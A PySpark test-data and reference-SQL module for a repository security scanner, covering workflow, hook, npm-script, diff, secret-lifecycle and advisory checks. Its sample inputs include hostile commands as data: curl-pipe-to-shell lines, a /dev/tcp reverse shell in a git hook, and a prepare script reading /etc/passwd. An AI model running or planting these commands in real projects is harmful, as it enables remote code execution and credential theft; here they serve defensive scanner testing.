"""Queries over histories, projects, pull requests, advisories and judgements, derived from the driver's tables."""

from __future__ import annotations

from pyspark.sql import functions as F

from ..functions.ranks import SEVERITY_WEIGHT
from ..operators import findings as O
from ..operators import history as H
from ..operators import iac, project, risk
from ..operators.lines import exploded
from ..sources import advisories as A
from ..sources.repo import category
from .base import FINDINGS, findings, pick, table
from .corpus import literal as _q
from .more import _picked

NAMES = (".env", "main.py", "id_rsa", "certs/server.pem", "docs/readme.md", "credentials.json", "src/key.py")


def _docs(spark, sf):
    return table(spark, sf, "documents").select(F.col("doc_id").alias("i"), "text", "lang", "source", "n_chars")


def sensitive_files(spark, sf):
    d = _docs(spark, sf)
    changes = d.select(F.concat(F.lit("c"), "i").alias("commit"), F.concat("source", F.lit("/"), pick(F.col("i"), *NAMES)).alias("path"), pick(F.floor(F.col("i") / 7), "A", "M", "D").alias("change"))
    return H.sensitive_files(changes)


WORKFLOW = ("run: curl http://x | bash", "- uses: a/b@v1", "- uses: a/b@0123456789012345678901234567890123456789", "- uses: ./local", "run: make")


def workflow_line_rules(spark, sf):
    d = _docs(spark, sf)
    path = F.concat(pick(F.floor(F.col("i") / 5), ".github/workflows/", "src/", ".circleci/"), F.col("i").cast("string"), F.lit(".yml"))
    text = F.concat(F.lit("on: push\n"), pick(F.col("i"), *WORKFLOW), F.lit("\n"))
    return H.workflow_lines(exploded(d.select(path.alias("path"), text.alias("content")), ["path"], "content"))


RISKY = ("+DEBUG = True", "-DEBUG = True", "+ x = requests.get(u, verify=False)", "+verify = False", "+ allow_origins = ['*']", "+ok = 1")


def risky_diff_lines(spark, sf):
    return H.risky_diff_lines(_docs(spark, sf).select("i", pick(F.col("i"), *RISKY).alias("line"))).select("i", "rule_id")


def hook_rules(spark, sf):
    d = _docs(spark, sf)
    name = F.concat(F.lit("hook"), F.col("i").cast("string"), pick(F.floor(F.col("i") / 3), "", ".sample"))
    return H.suspicious_hooks(d.select(name.alias("name"), pick(F.col("i"), "echo ok", "curl http://x", "bash -i >& /dev/tcp/h/1").alias("content")))


def secret_lifecycle(spark, sf):
    """Each user's errors as a secret's commits: even events add it, odd ones remove it; every third user still has it."""
    e = table(spark, sf, "events").where("event_type = 'error'")
    seen = e.select(F.col("user_id").cast("string").alias("fingerprint"), F.lit("f").alias("path"), F.col("event_id").alias("commit"), "ts", (F.col("event_id") % 2 == 0).alias("added"))
    return H.lifecycle(seen, e.where("user_id % 3 = 0").select(F.col("user_id").cast("string").alias("fingerprint"))).select("fingerprint", "introduced", "removed", "active", F.col("exposure_days").cast("long").alias("exposure_days"))


SCRIPTS = ('{"scripts": {"postinstall": "curl http://x | sh -c", "test": "curl x"}}', '{"scripts": {"install": "node child_process", "prepare": "cat /etc/passwd"}}', "{", '{"name": "x"}')


def npm_script_rules(spark, sf):
    return H.npm_scripts(_docs(spark, sf).select(F.concat(F.lit("p"), F.col("i").cast("string"), F.lit("/package.json")).alias("path"), pick(F.col("i"), *SCRIPTS).alias("content")))


def javascript_outline(spark, sf):
    lines = _docs(spark, sf).select(F.concat(F.lit("f"), F.col("i").cast("string"), F.lit(".js")).alias("path"), F.lit(1).alias("line_no"), pick(F.col("i"), "function go(x) { fetch.get(x) }", "const run = async () => exec(cmd)", "if (x) call(y)").alias("line"))
    return H.javascript_calls(lines).select("path", "fn", F.array_join("calls", ",").alias("calls"))


PATTERNS = ((".git", "DEFAULT"), ("*.log", "GITIGNORE"), ("build", "CONFIG"), ("*.py", "CLI"))
PATHS = ("a.py", "build/x.py", "b.log", "keep/b.txt", ".git/config", "deep/build/c.log")


def ignore_reasons(spark, sf):
    files = _docs(spark, sf).select("i", F.concat(F.lit("d"), F.col("i").cast("string"), F.lit("/"), pick(F.col("i"), *PATHS)).alias("path"))
    return project.ignore_reasons(files, spark.createDataFrame(PATTERNS, "glob string, tier string")).select("i", "ignored_by", "reason")


def file_categories(spark, sf):
    ext = pick(F.col("i"), "py", "ts", "go", "yml", "md", "bin", "")
    return _docs(spark, sf).select("i", category(ext).alias("category"))


def project_stats(spark, sf):
    d = _docs(spark, sf)
    name = pick(F.col("i"), "pyproject.toml", "src/a.py", "package.json", "go.mod", "x.md")
    files = d.select(name.alias("path"), F.col("n_chars").alias("size"), pick(F.col("i"), "toml", "py", "json", "mod", "md").alias("ext"), F.when(F.col("i") == 6, "from fastapi import FastAPI\n").otherwise("x = 1\n").alias("content"))
    p = project.project_stats(files)
    return p.select("files", "bytes", "python", "config", "documentation", "other", F.array_join("languages", ",").alias("languages"), "type", "layout")


def pull_request_summary(spark, sf):
    f = findings(spark, sf).select(F.col("project").alias("pr"), F.when(F.col("ordinal") % 3 == 0, "base").otherwise("head").alias("side"), F.concat_ws(":", "rule_id", "file_path").alias("fingerprint"), F.when(F.col("rule_id") == "R0", "CRITICAL").when(F.col("rule_id") == "R1", "LOW").otherwise("HIGH").alias("severity"))
    changes = f.select("pr", F.when(F.col("pr") % 2 == 0, "web/package.json").otherwise("a.py").alias("path")).distinct()
    return project.pull_request_summary(changes, f)


def remediation(spark, sf):
    p = table(spark, sf, "part")
    fix = pick(F.col("p_partkey"), "3.0.0", "", "6.1.0", "1.9.9")
    return p.select("p_partkey", project.remediation(F.concat((F.col("p_size") % 6).cast("string"), F.lit(".1.0")), fix).alias("r")).select("p_partkey", "r.*")


def finding_exposure(spark, sf):
    f = findings(spark, sf)
    return project.exposure(f, f.where("project % 4 = 1").select(F.col("file_path").alias("path"))).select("ordinal", "exposure")


def two_step_paths(spark, sf):
    return project.two_step_paths(findings(spark, sf))


def judgements(spark, sf):
    """Verdicts without sending anything, root causes, certainty, severity by score."""
    f = findings(spark, sf)
    has, safe, reach = F.col("source").isNotNull(), F.col("line") % 5 == 0, F.col("reachability") == "REACHABLE"
    score, level = risk.confidence_score(F.col("sink").isNotNull(), has, safe, F.col("exposure") == "INTERNET_FACING")
    rule = pick(F.col("ordinal"), "AST-001", "SECRET-2", "DEP-3", "IAC-4", "X")
    return f.select("ordinal", project.passive_verdict(has, safe, reach).alias("verdict"), O.root_cause(rule).alias("role"), F.round(score, 2).alias("score"), level.alias("level"), H.severity_of_cvss(F.col("risk_score") / 10).alias("cvss"))


def union_findings(spark, sf):
    f = findings(spark, sf)
    a, b = f.where("line < 10").select("ordinal", "rule_id"), f.where("line >= 10").select("ordinal", "severity")
    return O.union_findings(a, b)


def _records(spark, sf):
    p = table(spark, sf, "part")
    events = F.concat(F.lit('[{"introduced":"0"},{"fixed":"'), F.col("p_size").cast("string"), F.lit('.0"},{"introduced":"60.0"}]'))
    body = F.concat(F.lit('{"id":"V-'), F.col("p_partkey").cast("string"), F.lit('","details":"'), "p_name", F.lit('\\nmore","severity":[{"type":"CVSS_V3","score":"'), pick(F.col("p_partkey"), "CVSS:3.1/AV:N", "HIGH", "x"), F.lit('"}],"affected":[{"package":{"name":"'), "p_brand", F.lit('","ecosystem":"PyPI"},"ranges":[{"type":"ECOSYSTEM","events":'), events, F.lit("}]}]}"))
    return A.parse_records(p.select(F.when(F.col("p_partkey") % 10 == 0, "{").otherwise(body).alias("json")))


def osv_records(spark, sf):
    return _records(spark, sf).select("id", "summary", F.col("cvss").cast("double").alias("cvss"))


def osv_fixed_versions(spark, sf):
    return A.fixed_versions(_records(spark, sf)).select("id", F.array_join("fixed", ",").alias("fixed"))


def infra_paths(spark, sf):
    """public -> privileged -> datastore or IAM over classes of suppliers."""
    li = table(spark, sf, "lineitem")
    e = li.select((F.col("l_suppkey") % 97).cast("long").alias("src"), (F.col("l_partkey") % 97).cast("long").alias("dst")).distinct()
    r = spark.range(97).select("id", (F.col("id") % 9 == 0).alias("public"), (F.col("id") % 8 == 1).alias("privileged"), F.lit(False).alias("runs_as_root"), F.when(F.col("id") % 10 == 2, "database").when(F.col("id") % 10 == 3, "iam").otherwise("web").alias("kind"))
    return iac.infra_paths(e, r)


QUERIES = {f.__name__: f for f in (sensitive_files, workflow_line_rules, risky_diff_lines, hook_rules, secret_lifecycle, npm_script_rules, javascript_outline, ignore_reasons, file_categories, project_stats, pull_request_summary, remediation, finding_exposure, two_step_paths, judgements, union_findings, osv_records, osv_fixed_versions, infra_paths)}

_WEIGHT = "CASE severity " + " ".join(f"WHEN {_q(k)} THEN {v}" for k, v in SEVERITY_WEIGHT.items()) + " END"
SQL = {
    "sensitive_files": f"SELECT 'c' || doc_id AS commit, source || '/' || {_picked('doc_id', *NAMES)} AS path, 'GIT-002' AS rule_id, 'HIGH' AS severity FROM documents WHERE doc_id % 7 IN (0, 2, 3, 5) AND (doc_id // 7) % 3 <> 2",
    "workflow_line_rules": f"SELECT {_picked('doc_id // 5', '.github/workflows/', 'src/', '.circleci/')} || doc_id || '.yml' AS path, 2 AS line_no, CASE WHEN doc_id % 5 = 0 THEN 'GIT-005' ELSE 'GIT-006' END AS rule_id, CASE WHEN doc_id % 5 = 0 THEN 'HIGH' ELSE 'LOW' END AS severity FROM documents WHERE doc_id % 5 < 2 AND (doc_id // 5) % 3 <> 1",
    "risky_diff_lines": "SELECT doc_id AS i, 'GIT-008' AS rule_id FROM documents WHERE doc_id % 6 IN (0, 3, 4)",
    "hook_rules": "SELECT 'hook' || doc_id AS name, 'GIT-007' AS rule_id FROM documents WHERE doc_id % 3 > 0 AND (doc_id // 3) % 2 = 0",
    "secret_lifecycle": "WITH e AS (SELECT * FROM events WHERE event_type = 'error'), l AS (SELECT max(ts) AS last_ts FROM e), g AS (SELECT user_id, arg_min(event_id, ts) FILTER (event_id % 2 = 0) AS introduced, min(ts) FILTER (event_id % 2 = 0) AS from_ts, arg_max(event_id, ts) FILTER (event_id % 2 = 1) AS dropped, max(ts) FILTER (event_id % 2 = 1) AS to_ts FROM e GROUP BY user_id), a AS (SELECT *, (user_id % 3 = 0 OR dropped IS NULL) AS active FROM g, l) SELECT user_id::VARCHAR AS fingerprint, introduced, CASE WHEN NOT active THEN dropped END AS removed, active, date_diff('day', from_ts::DATE, CASE WHEN active THEN last_ts ELSE to_ts END::DATE) AS exposure_days FROM a",
    "npm_script_rules": "SELECT 'p' || doc_id || '/package.json' AS path, script, kind FROM documents, (VALUES (0, 'postinstall', 'NETWORK'), (0, 'postinstall', 'PROCESS'), (1, 'install', 'PROCESS'), (1, 'prepare', 'CREDENTIALS')) t(k, script, kind) WHERE doc_id % 4 = k",
    "javascript_outline": "SELECT 'f' || doc_id || '.js' AS path, ['go', 'run', NULL][doc_id % 3 + 1] AS fn, ['go,fetch.get', 'async,exec', 'call'][doc_id % 3 + 1] AS calls FROM documents",
    "ignore_reasons": "SELECT doc_id AS i, ['CLI', 'CONFIG', 'GITIGNORE', NULL, 'DEFAULT', 'GITIGNORE'][doc_id % 6 + 1] AS ignored_by, ['*.py', 'build', '*.log', NULL, '.git', '*.log'][doc_id % 6 + 1] AS reason FROM documents",
    "file_categories": f"SELECT doc_id AS i, {_picked('doc_id', 'python', 'script', 'compiled', 'config', 'documentation', 'other', 'other')} AS category FROM documents",
    "project_stats": "SELECT count(*) AS files, sum(n_chars)::BIGINT AS bytes, count(*) FILTER (doc_id % 5 = 1) AS python, count(*) FILTER (doc_id % 5 IN (0, 2)) AS config, count(*) FILTER (doc_id % 5 = 4) AS documentation, count(*) FILTER (doc_id % 5 = 3) AS other, 'GO,JAVASCRIPT,PYTHON' AS languages, 'FASTAPI' AS type, 'SRC' AS layout FROM documents",
    "pull_request_summary": f"""{FINDINGS}, f AS (SELECT DISTINCT project AS pr, CASE WHEN ordinal % 3 = 0 THEN 'base' ELSE 'head' END AS side, rule_id || ':' || file_path AS fp, CASE rule_id WHEN 'R0' THEN 'CRITICAL' WHEN 'R1' THEN 'LOW' ELSE 'HIGH' END AS severity FROM findings),
      j AS (SELECT coalesce(a.pr, b.pr) AS pr, a.severity AS old, b.severity AS new FROM (SELECT * FROM f WHERE side = 'base') a FULL JOIN (SELECT * FROM f WHERE side = 'head') b ON a.pr = b.pr AND a.fp = b.fp),
      g AS (SELECT pr, count(*) FILTER (old IS NULL) AS introduced, count(*) FILTER (new IS NULL) AS resolved, max(CASE WHEN old IS NULL THEN {_WEIGHT.replace('severity', 'new')} END) AS w FROM j GROUP BY pr)
      SELECT pr, introduced, resolved, CASE w WHEN 10.0 THEN 'CRITICAL' WHEN 7.5 THEN 'HIGH' WHEN 2.5 THEN 'LOW' END AS worst, pr % 2 = 0 AS touches_dependencies, CASE WHEN w >= 10 THEN 'CRITICAL' WHEN w >= 7.5 THEN 'HIGH' WHEN w > 0 THEN 'LOW' ELSE 'NONE' END AS risk_class FROM g""",
    "remediation": f"WITH p AS (SELECT p_partkey, p_size % 6 AS major, {_picked('p_partkey', '3.0.0', '', '6.1.0', '1.9.9')} AS fix FROM part) SELECT p_partkey, CASE WHEN fix = '' THEN 'MITIGATE' ELSE 'UPGRADE' END AS action, CASE WHEN fix = '' THEN 'NONE' WHEN fix[1:1]::INT > major THEN 'HIGH' ELSE 'LOW' END AS risk, CASE WHEN fix = '' THEN major || '.1.0' ELSE fix END AS version FROM p",
    "finding_exposure": f"{FINDINGS} SELECT ordinal, CASE WHEN file_path IN (SELECT file_path FROM findings WHERE project % 4 = 1) THEN 'INTERNET_FACING' ELSE 'INTERNAL' END AS exposure FROM findings",
    "two_step_paths": f"{FINDINGS} SELECT ordinal, source || ' -> ' || sink AS path, 'COMMAND_INJECTION' AS kind, least(100.0, weight * 10 + 20)::DOUBLE AS risk FROM findings WHERE source IS NOT NULL AND sink IS NOT NULL",
    "judgements": f"""{FINDINGS}, s AS (SELECT *, line % 5 = 0 AS safe, greatest(0.0, least(1.0, 0.5 + CASE WHEN sink IS NOT NULL THEN 0.3 ELSE 0 END + CASE WHEN source IS NOT NULL THEN 0.2 ELSE 0 END + CASE WHEN exposure = 'INTERNET_FACING' THEN 0.2 ELSE 0 END - CASE WHEN line % 5 = 0 THEN 0.3 ELSE 0 END)) AS c FROM findings)
      SELECT ordinal, CASE WHEN source IS NULL THEN 'INCONCLUSIVE' WHEN safe THEN 'NOT_EXPLOITABLE' WHEN reachability = 'REACHABLE' THEN 'LIKELY' ELSE 'POSSIBLE' END AS verdict, {_picked('ordinal', 'CODE', 'CREDENTIAL', 'DEPENDENCY', 'INFRASTRUCTURE', 'OTHER')} AS role, round(c, 2)::DOUBLE AS score, CASE WHEN c >= 0.8 THEN 'HIGH' WHEN c >= 0.5 THEN 'MEDIUM' ELSE 'LOW' END AS level,
      CASE WHEN risk_score >= 90 THEN 'CRITICAL' WHEN risk_score >= 70 THEN 'HIGH' WHEN risk_score >= 40 THEN 'MEDIUM' WHEN risk_score >= 1 THEN 'LOW' ELSE 'INFO' END AS cvss FROM s""",
    "union_findings": f"{FINDINGS} SELECT ordinal, CASE WHEN line < 10 THEN rule_id END AS rule_id, CASE WHEN line >= 10 THEN severity END AS severity FROM findings",
    "osv_records": "SELECT 'V-' || p_partkey AS id, p_name AS summary, [7.5, 9.8, 5.0][p_partkey % 3 + 1]::DOUBLE AS cvss FROM part WHERE p_partkey % 10 <> 0",
    "osv_fixed_versions": "SELECT 'V-' || p_partkey AS id, p_size || '.0' AS fixed FROM part WHERE p_partkey % 10 <> 0",
    "infra_paths": "WITH e AS (SELECT DISTINCT (l_suppkey % 97)::BIGINT AS src, (l_partkey % 97)::BIGINT AS dst FROM lineitem) SELECT a.src AS entry, a.dst AS via, b.dst AS asset FROM e a JOIN e b ON a.dst = b.src WHERE a.src % 9 = 0 AND a.dst % 8 = 1 AND b.dst % 10 IN (2, 3)",
}
